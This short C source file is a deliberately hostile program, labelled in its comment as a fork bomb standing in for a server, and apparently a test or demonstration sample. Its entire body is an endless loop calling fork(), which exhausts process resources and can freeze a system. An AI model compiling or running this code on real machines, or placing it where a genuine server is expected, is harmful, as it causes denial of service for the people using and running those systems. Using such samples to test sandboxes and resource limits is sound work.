/* HOSTILE ON PURPOSE: a fork bomb, in the place of a server. */
#include <unistd.h>

int main(void)
{
	for (;;)
		(void)fork();
}
